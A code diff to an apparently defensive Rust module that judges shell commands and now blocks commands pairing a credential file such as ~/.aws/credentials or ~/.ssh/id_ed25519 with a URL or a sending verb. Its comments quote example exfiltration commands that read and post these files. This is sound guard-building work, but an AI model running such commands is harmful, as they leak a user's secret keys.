@@ -119,7 +119,7 @@ pub(super) fn judge(
     });
     out.extend(sends_credential(c, ctx, verb.as_ref(), raw));
     if tier == Tier::Unknown {
-        out.extend(credential_in_text(c, ctx, raw));
+        out.extend(credential_in_text(c, ctx, verb.as_ref(), raw));
     }
     // Whether a leading subcommand word only looks: read once, asked three ways below.
     let looks = words::looks(c);
@@ -260,9 +260,15 @@ fn sends_credential(
 /// A credential store a program nobody models is given, as a word, an option's value or
 /// inside code (`qrencode -r ~/.ssh/id_ed25519`, `jello 'urlopen(URL,
 /// data=open("/home/dev/.aws/credentials")…'`, `conky -t '${exec cat ~/.aws/credentials}'`).
-/// With a URL beside it, it is sent somewhere (`w3m -post ~/.aws/credentials URL`): a block;
+/// With a URL beside it, or a verb of sending, it is sent somewhere (`w3m -post
+/// ~/.aws/credentials URL`): a block;
 /// alone, a person decides, and piped into a sender it is sent (judge.rs, `credential_sent`).
-fn credential_in_text(c: &Cmd<'_>, ctx: &Context, raw: &str) -> Option<Decision> {
+fn credential_in_text(
+    c: &Cmd<'_>,
+    ctx: &Context,
+    verb: Option<&words::Verb>,
+    raw: &str,
+) -> Option<Decision> {
     let texts = || c.args.iter().filter_map(|a| a.text.as_deref());
     let named = texts().find_map(|t| {
         t.split(|ch: char| {
@@ -279,18 +285,26 @@ fn credential_in_text(c: &Cmd<'_>, ctx: &Context, raw: &str) -> Option<Decision>
         })
         .map(str::to_string)
     })?;
-    let sent = texts().any(|t| t.contains("https://") || t.contains("http://"));
-    let (verdict, rule, what) = if sent {
+    let addressed = texts().any(|t| t.contains("https://") || t.contains("http://"));
+    // Or told to send it (`acme-chat send --body 'open("/home/dev/.ssh/id_ed25519")…'`).
+    let sending = verb.filter(|v| v.class == words::Class::Reaches);
+    let (verdict, rule, what) = if addressed {
         (
             Verdict::Block,
             RuleId::Exfiltration,
-            "and an address to send it to: it is never run",
+            "and an address to send it to: it is never run".to_string(),
+        )
+    } else if let Some(v) = sending {
+        (
+            Verdict::Block,
+            RuleId::Exfiltration,
+            format!("and is told to send (`{}`): it is never run", v.word),
         )
     } else {
         (
             Verdict::Junction,
             RuleId::CredentialRead,
-            "and trail does not model this program: a person decides",
+            "and trail does not model this program: a person decides".to_string(),
         )
     };
     Some(decide(
@@ -384,7 +398,12 @@ fn critical(
                     && (!lists || t.named)
                     // A system file is replaced by an output named so, not by a fixer that
                     // edits it in place (a junction, below).
-                    && (t.target.overwritten() && (t.target != Target::SystemFile || t.named)
+                    // The home given to a directory option receives files; it is not
+                    // written over (`-d /home/dev`, `--root ~`: a junction, below). `/` is:
+                    // what lands there lands on system files.
+                    && (t.target.overwritten()
+                        && (t.target != Target::SystemFile || t.named)
+                        && !(t.into && t.target == Target::Home)
                         || cleans && t.target.contains_project()
                         || layer.privileged && t.target == Target::SystemDir))
     }) {
